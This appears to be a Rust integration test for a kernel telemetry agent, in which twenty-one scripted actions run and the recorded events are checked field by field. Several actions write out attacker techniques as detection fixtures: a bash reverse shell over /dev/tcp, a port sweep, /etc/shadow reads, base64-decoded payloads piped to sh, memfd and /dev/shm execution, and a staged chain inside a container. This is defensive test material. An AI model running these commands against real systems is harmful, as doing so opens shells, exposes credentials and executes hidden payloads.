//! Twenty-one benign actions, each done by a shell and compared as the columns that are shipped.
//!
//! Text in, rows out, as in `calls`: a line is a kind and `column=value`; `!=` says that a column must differ, `~` that it must contain.
//! Beside what a script prints, `$HOST_MNT`, `$HOST_NET` and `$HOST_PID` are this process's namespaces. A line with `N x` in front must
//! fit exactly N events, any other line at least one.

use std::collections::{BTreeMap, BTreeSet};
use std::process::{Command, Stdio};
use std::time::Instant;

use weir_edge::clock::Clock;
use weir_edge::enrich::cgroup::Mounts;
use weir_edge::enrich::place::Places;
use weir_edge::enrich::proc::Proc;
use weir_edge::enrich::process::Processes;
use weir_edge::enrich::runtime::Runtimes;
use weir_edge::enrich::{Enricher, Source};
use weir_edge::probe::raw::What;
use weir_edge::probe::{OpenPolicy, Options, RawEvent};
use weir_schema::{Host, JsonEvent, write_line};

use super::{Lab, Skip, has, namespace, say};

struct Action {
    name: &'static str,
    script: &'static str,
    told: &'static str,
}

const ACTIONS: &[Action] = &[
    Action {
        name: "1 exec and exit",
        script: r#"cd $D; /bin/echo LABMARK-01 "two words" """#,
        told: r#"
1 x exec | path=/usr/bin/echo args=["/bin/echo","LABMARK-01","two_words",""] pid=$PID uid=0 cwd=$D ppid=$PARENT
1 x exit | exit_code=0 pid=$PID signal=-"#,
    },
    Action {
        name: "2 container of less than a second",
        script: r#"
CG=$(findmnt -nt cgroup2 -o TARGET | head -1)/lab-$$; mkdir $CG; echo CG=/lab-$$
sh -c "echo \$\$ > $CG/cgroup.procs; exec unshare -m -p -u -i -n -C --fork --mount-proc /bin/sh -c 'hostname lab-c1; id >/dev/null; exit 7'"
rmdir $CG; true"#,
        told: r"
exec | path=/usr/bin/unshare cgroup=$CG uid=0
exec | comm=sh cgroup=$CG pid_ns!=$HOST_PID mnt_ns!=$HOST_MNT net_ns!=$HOST_NET detail.ns_pid=1
exec | comm=hostname cgroup=$CG pid_ns!=$HOST_PID mnt_ns!=$HOST_MNT net_ns!=$HOST_NET
exec | comm=id cgroup=$CG pid_ns!=$HOST_PID mnt_ns!=$HOST_MNT
exit | comm=sh exit_code=7 cgroup=$CG
exit | comm=unshare exit_code=7 cgroup=$CG",
    },
    Action {
        name: "3 TCP with byte counts",
        script: r"
/usr/bin/python3 - <<'E'
import os,socket,threading
s=socket.socket(); s.bind(('127.0.0.1',0)); s.listen(1)
def sv():
    c,_=s.accept(); n=0
    while n<12345: n+=len(c.recv(4096))
    c.sendall(b'y'*54321); c.close()
t=threading.Thread(target=sv); t.start()
c=socket.create_connection(s.getsockname()); c.sendall(b'x'*12345)
print('P=%d\nC=%d' % (s.getsockname()[1], c.getsockname()[1]))
n=0
while n<54321: n+=len(c.recv(65536))
c.close(); t.join()
E",
        told: r"
1 x listen  | dst_port=$P result=0
1 x connect | src_ip=127.0.0.1 src_port=$C dst_ip=127.0.0.1 dst_port=$P result=0 direction=out
1 x accept  | src_ip=127.0.0.1 src_port=$C dst_ip=127.0.0.1 dst_port=$P result=0 direction=in
1 x close   | src_port=$C dst_port=$P direction=out bytes_sent=12345 bytes_received=54321 duration_ms!=-
1 x close   | src_port=$C dst_port=$P direction=in bytes_sent=54321 bytes_received=12345 duration_ms!=-",
    },
    Action {
        name: "4 connect refused",
        script: "bash -c 'echo > /dev/tcp/127.0.0.1/1'; true",
        told: "1 x connect | dst_ip=127.0.0.1 dst_port=1 result=111 comm=bash",
    },
    Action {
        name: "5 network unreachable",
        script: "unshare -n bash -c 'echo > /dev/tcp/203.0.113.9/443'; true",
        told: "1 x connect | dst_ip=203.0.113.9 dst_port=443 result=101 net_ns!=$HOST_NET comm=bash",
    },
    Action {
        name: "6 port sweep",
        script: "for p in $(seq 20000 20199); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true",
        told: "
200 x connect | dst_ip=127.0.0.1 result=111
1 x connect | dst_port=20000 result=111
1 x connect | dst_port=20199 result=111",
    },
    Action {
        name: "7 UDP",
        script: r#"/usr/bin/python3 -c "
import socket
r=socket.socket(2,2); r.bind(('127.0.0.1',0)); d=r.getsockname()
s=socket.socket(2,2); s.sendto(b'a'*100,d); c=socket.socket(2,2); c.connect(d); c.send(b'b'*200); print(len(r.recv(999)),len(r.recv(999)))
print('P=%d\nS=%d\nC=%d' % (d[1], s.getsockname()[1], c.getsockname()[1]))""#,
        told: "
2 x send | dst_port=$P proto=udp
1 x send | src_port=$S dst_ip=127.0.0.1 dst_port=$P bytes_sent=100
1 x send | src_port=$C dst_ip=127.0.0.1 dst_port=$P bytes_sent=200",
    },
    Action {
        name: "8 reverse shell",
        script: r#"
/usr/bin/python3 -c "
import socket
s=socket.socket(); s.setsockopt(1,2,1); s.bind(('127.0.0.5',4444)); s.listen(1); print('UP=1', flush=True); c,_=s.accept(); c.sendall(b'id; exit\n'); d=b''
while 1:
    x=c.recv(999)
    if not x: break
    d+=x" & sleep .4; bash -c 'bash -i >& /dev/tcp/127.0.0.5/4444 0>&1'; wait"#,
        told: "
1 x connect | comm=bash dst_ip=127.0.0.5 dst_port=4444 result=0
dup  | comm=bash dst_ip=127.0.0.5 dst_port=4444 detail.fd=0 result=0
dup  | comm=bash dst_ip=127.0.0.5 dst_port=4444 detail.fd=1 result=0
dup  | comm=bash dst_ip=127.0.0.5 dst_port=4444 detail.fd=2 result=0
exec | comm=id parent_cmdline=bash_-i",
    },
    Action {
        name: "9 renamed binary",
        script: r#"cp /bin/bash $D/kworker; $D/kworker -c "id >/dev/null"; true"#,
        told: "exec | path=$D/kworker comm=kworker ppid=$PID",
    },
    Action {
        name: "10 memfd",
        script: r#"/usr/bin/python3 -c "
import os
f=os.memfd_create('x'); os.write(f,open('/bin/true','rb').read()); os.execve('/proc/self/fd/%d'%f,['lab-memfd'],{})""#,
        told: r#"
1 x memfd | path=memfd:x result=0
exec  | path=memfd:x args=["lab-memfd"] detail.exe_unlinked=true"#,
    },
    Action {
        name: "11 exec from /dev/shm",
        script: "cp /bin/true /dev/shm/labx; /dev/shm/labx; rm /dev/shm/labx",
        told: "
open   | path=/dev/shm/labx comm=cp result=0
exec   | path=/dev/shm/labx
unlink | path=/dev/shm/labx result=0 comm=rm",
    },
    Action {
        name: "12 setuid drop",
        script: r#"/usr/bin/python3 -c "import os; os.setgid(65534); os.setuid(65534)""#,
        told: "
setgid | uid=0 result=0 detail.gid_from=0 detail.gid_to=65534
setuid | uid=0 result=0 detail.uid_from=0 detail.uid_to=65534
exit   | uid=65534",
    },
    Action { name: "13 chmod +s", script: "cp /bin/id $D/sid; chmod u+s $D/sid", told: "chmod | path=$D/sid mode=2541 result=0" },
    Action {
        name: "14 module load attempt",
        script: r#"/usr/bin/python3 -c "
import ctypes, os; L=ctypes.CDLL(None,use_errno=True)
L.syscall({'x86_64':175}.get(os.uname().machine,105),b'not-elf!',8,b''); print('ERRNO=%d' % ctypes.get_errno())""#,
        told: "1 x module | result=$ERRNO",
    },
    Action {
        name: "15 cron write in a private mount",
        script: r#"
unshare -m sh -c '[ -d /etc/cron.d ] || { mount -t tmpfs t /etc; mkdir /etc/cron.d; }; mount -t tmpfs t /etc/cron.d; echo "* * * * * root /bin/true" > /etc/cron.d/labjob; rm /etc/cron.d/labjob'"#,
        told: "
mount  | path=/etc/cron.d result=0 mnt_ns!=$HOST_MNT
open   | path=/etc/cron.d/labjob comm=sh mnt_ns!=$HOST_MNT
unlink | path=/etc/cron.d/labjob result=0 mnt_ns!=$HOST_MNT",
    },
    Action {
        name: "16 /etc/shadow read",
        script: "cat /etc/shadow > /dev/null; head -c1 /etc/../etc/shadow >/dev/null",
        told: "
1 x open | path=/etc/shadow comm=cat result=0
1 x open | path=/etc/shadow comm=head result=0",
    },
    Action {
        name: "17 nsenter",
        script: "
unshare -u -m sleep 2 & sleep .3; N=$(pgrep -n -x sleep -P $!||echo $!); echo TARGET_MNT=$(stat -Lc %i /proc/$N/ns/mnt)
nsenter -t $N -u -m /bin/true; kill $N; wait 2>/dev/null; true",
        told: "
2 x setns | comm=nsenter result=0
exec | path=/usr/bin/true mnt_ns=$TARGET_MNT",
    },
    Action {
        name: "18 encoded payload",
        script: "echo ZWNobyBMQUJNQVJLLTM0Cg== | base64 -d | sh",
        told: r#"
1 x exec | args=["base64","-d"]
1 x exec | args=["sh"]"#,
    },
    Action {
        name: "20 orphan",
        script: "bash -c 'echo BASH=$$; (sleep .3; exec /bin/echo LABMARK-20) & exit'; sleep .6",
        told: r#"exec | args=["/bin/echo","LABMARK-20"] ancestors~bash ppid=$BASH parent_cmdline~LABMARK-20 detail.reparented_to!=-"#,
    },
    Action {
        name: "21 chain in one container",
        script: r#"
CG=$(findmnt -nt cgroup2 -o TARGET | head -1)/labchain-$$; mkdir $CG; echo CG=/labchain-$$
sh -c "echo \$\$ > $CG/cgroup.procs; exec unshare -m -p --fork /bin/sh -c 'echo ZWNobyBoaQo= | base64 -d > $D/stage2; chmod +x $D/stage2; sh $D/stage2; cat /etc/shadow >/dev/null; bash -c \"echo > /dev/tcp/127.0.0.1/4444\"; rm $D/stage2'"; rmdir $CG; true"#,
        told: r#"
open    | path=$D/stage2 cgroup=$CG
chmod   | path=$D/stage2 cgroup=$CG result=0
exec    | args=["sh","$D/stage2"] cgroup=$CG
open    | path=/etc/shadow comm=cat cgroup=$CG
connect | dst_ip=127.0.0.1 dst_port=4444 result=111 comm=bash cgroup=$CG
unlink  | path=$D/stage2 cgroup=$CG result=0"#,
    },
];

pub(super) fn are_told_field_by_field() -> Result<(), Skip> {
    let open = OpenPolicy { writes: true, prefixes: vec!["/etc/shadow".into()], repeat_ms: 0 };
    let mut lab = Lab::new(Options { open, ..super::calls::all() })?;
    let mut known = enricher();
    let mut wrong = Vec::new();
    for action in ACTIONS {
        lab.events.clear();
        let dir = tempfile::tempdir().expect("a temporary directory");
        let real = std::fs::canonicalize(dir.path()).expect("it exists").display().to_string();
        let child = Command::new("bash")
            .args(["-c", action.script])
            .env("D", &real)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|e| Skip(format!("bash: {e}")))?;
        let pid = child.id();
        let begun = Instant::now();
        let output = child.wait_with_output().expect("our child");
        assert!(output.status.success(), "{}: {}", action.name, output.status);
        lab.until(|events| has(events, pid, |what| matches!(what, What::Exit(_))));
        lab.settle();
        let took = begun.elapsed();
        let said = String::from_utf8_lossy(&output.stdout).into_owned();
        let values = values(&said, &real, pid);
        let rows = rows(&mut known, &lab.events, pid);
        let misses: Vec<_> =
            action.told.lines().filter(|l| !l.is_empty()).filter_map(|line| miss(&rows, &fill(line, &values))).collect();
        say(&format!("     {} ... {} ({} ms)", action.name, if misses.is_empty() { "ok" } else { "WRONG" }, took.as_millis()));
        if !misses.is_empty() {
            wrong.push(format!("{}\n{}\nof\n{}", action.name, misses.join("\n"), super::calls::told(&rows)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    Ok(())
}

/// Two thousand processes, each with its exec and its exit, or counted as lost.
pub(super) fn two_thousand_processes_are_told_or_counted() -> Result<(), Skip> {
    let mut lab = Lab::new(super::all())?;
    let mut child = Command::new("bash").args(["-c", "for i in $(seq 2000); do /bin/true; done"]).spawn().expect("bash");
    let pid = child.id();
    while child.try_wait().expect("our child").is_none() {
        lab.read();
    }
    lab.until(|events| has(events, pid, |what| matches!(what, What::Exit(_))));
    let (events, dropped) = lab.finish();
    let ours = |event: &&RawEvent| event.who.as_ref().is_some_and(|who| who.ppid == pid && who.comm == "true");
    let of = |wanted: fn(&What) -> bool| events.iter().filter(ours).filter(|e| wanted(&e.what)).count() as u64;
    let (execs, exits) = (of(|what| matches!(what, What::Exec(_))), of(|what| matches!(what, What::Exit(_))));
    assert!(execs <= 2000 && execs + dropped.exec + dropped.skipped >= 2000, "{execs} execs, {dropped:?}");
    assert!(exits <= 2000 && exits + dropped.exit + dropped.skipped >= 2000, "{exits} exits, {dropped:?}");
    Ok(())
}

fn enricher() -> Enricher {
    let places = Places::new(Mounts::read(), Vec::new(), Runtimes::new("/nowhere"));
    let mut enricher = Enricher::new(Clock::new(0, 0), Processes::new(Proc::new("/proc")), places, Source::Kernel);
    enricher.load(weir_edge::probe::system::boot_clock_ns(), &mut Vec::new());
    enricher
}

/// What a process and its descendants did, also those that it left behind, as it is shipped.
fn rows(enricher: &mut Enricher, events: &[RawEvent], pid: u32) -> Vec<serde_json::Value> {
    let host = Host { host: "h".into(), ..Host::default() };
    let (mut family, mut rows) = (BTreeSet::from([pid]), Vec::new());
    for raw in events {
        let is_ours = raw.who.as_ref().is_some_and(|who| family.contains(&who.pid));
        if let (What::Fork(fork), true) = (&raw.what, is_ours) {
            family.insert(fork.child_pid);
        }
        let mut out = Vec::new();
        enricher.enrich(raw, &mut out);
        for event in out.into_iter().filter(|_| is_ours) {
            let mut text = String::new();
            write_line(&mut text, &JsonEvent { host: host.clone(), tenant: None, region: None, agent: None, event });
            rows.push(serde_json::from_str(&text).expect("our own JSON"));
        }
    }
    rows
}

fn values(said: &str, dir: &str, pid: u32) -> BTreeMap<String, String> {
    let mut values: BTreeMap<String, String> =
        said.lines().filter_map(|line| line.split_once('=')).map(|(k, v)| (k.to_owned(), v.to_owned())).collect();
    let known = [
        ("D", dir.to_owned()),
        ("PID", pid.to_string()),
        ("PARENT", std::process::id().to_string()),
        ("HOST_MNT", namespace("mnt").to_string()),
        ("HOST_NET", namespace("net").to_string()),
        ("HOST_PID", namespace("pid").to_string()),
    ];
    values.extend(known.map(|(name, value)| (name.to_owned(), value)));
    values
}

fn fill(line: &str, values: &BTreeMap<String, String>) -> String {
    let mut names: Vec<_> = values.iter().collect();
    names.sort_by_key(|(name, _)| std::cmp::Reverse(name.len()));
    names.iter().fold(line.to_owned(), |line, (name, value)| line.replace(&format!("${name}"), value))
}

/// The line, where it does not hold.
fn miss(rows: &[serde_json::Value], line: &str) -> Option<String> {
    let (count, rest) = match line.split_once(" x ") {
        Some((count, rest)) => (Some(count.parse::<usize>().expect("a number")), rest),
        None => (None, line),
    };
    let found = rows.iter().filter(|row| fits(row, rest)).count();
    let holds = count.map_or(found > 0, |count| found == count);
    (!holds).then(|| format!("{line}: fits {found}"))
}

fn fits(row: &serde_json::Value, line: &str) -> bool {
    let (kind, wanted) = line.split_once('|').expect("kind | columns");
    row["kind"] == kind.trim() && wanted.split_whitespace().all(|pair| condition(row, pair))
}

fn condition(row: &serde_json::Value, pair: &str) -> bool {
    let at = pair.find(['!', '~', '=']).expect("column, operator, value");
    let (column, rest) = pair.split_at(at);
    let found = super::calls::column(row, column).replace(' ', "_");
    match (rest.strip_prefix("!="), rest.strip_prefix('~')) {
        (Some(value), _) => found != value,
        (_, Some(part)) => found.contains(part),
        _ => found == rest[1..],
    }
}
